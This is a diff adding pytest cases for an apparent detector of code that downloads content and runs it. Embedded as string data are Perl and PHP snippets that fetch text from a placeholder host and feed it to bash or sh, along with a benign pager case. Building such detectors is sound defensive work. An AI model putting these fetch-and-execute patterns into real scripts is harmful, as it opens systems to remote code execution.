@@ -81,3 +81,37 @@ def test_a_download_written_to_a_log_files_stdin_writer_in_python_runs_nothing(t
         "pager.stdin.write(page)\n"
     )
     assert Kind.EXEC_FETCHED not in kinds(tmp_path, "scripts/status.py", source, Language.PYTHON)
+
+
+def test_a_download_printed_into_a_perl_pipe_to_a_shell(tmp_path: Path) -> None:
+    source = (
+        "use HTTP::Tiny;\n"
+        "my $steps = HTTP::Tiny->new->get('http://198.51.100.70/steps')->{content};\n"
+        "open(SHELL, '| /bin/bash') or die;\n"
+        "print SHELL $steps;\n"
+        "close(SHELL);\n"
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/steps.pl", source, Language.SCRIPTING)
+
+
+def test_a_download_written_into_a_php_popen_of_a_shell(tmp_path: Path) -> None:
+    source = (
+        "<?php\n"
+        "$code = file_get_contents('https://assets.example.invalid/boot.txt');\n"
+        "$p = popen('sh', 'w');\n"
+        "fwrite($p, $code);\n"
+        "pclose($p);\n"
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/boot.php", source, Language.SCRIPTING)
+
+
+def test_a_download_piped_into_a_pager_or_a_constant_into_a_shell_runs_nothing(tmp_path: Path) -> None:
+    source = (
+        "use LWP::Simple;\n"
+        "my $notes = get('https://releases.example.invalid/notes.txt');\n"
+        "open(my $pager, '|-', 'less') or die;\n"
+        "print $pager $notes;\n"
+        "open(my $sh, '|-', 'sh') or die;\n"
+        'print $sh "make test\\n";\n'
+    )
+    assert Kind.EXEC_FETCHED not in kinds(tmp_path, "scripts/notes.pl", source, Language.SCRIPTING)
